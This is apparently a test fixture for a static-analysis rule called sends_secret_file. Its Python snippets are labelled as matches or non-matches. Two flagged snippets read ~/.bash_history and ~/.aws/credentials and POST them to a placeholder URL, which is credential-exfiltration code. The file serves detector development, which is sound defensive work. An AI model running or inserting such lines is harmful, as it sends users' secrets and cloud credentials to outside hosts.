import os, requests
h = open(os.path.expanduser('~/.bash_history')).read()
# ruleid: sends_secret_file
requests.post(URL, data=h)
with open(os.path.expanduser('~/.aws/credentials')) as f:
    creds = f.read()
# ruleid: sends_secret_file
requests.post(URL, json={'c': creds})
token = open(os.path.expanduser('~/.npmrc')).read().split('=')[1]
# ok: sends_secret_file
requests.get(REGISTRY, headers={'Authorization': 'Bearer ' + token})
notes = open('README.md').read()
# ok: sends_secret_file
requests.post(URL, data=notes)
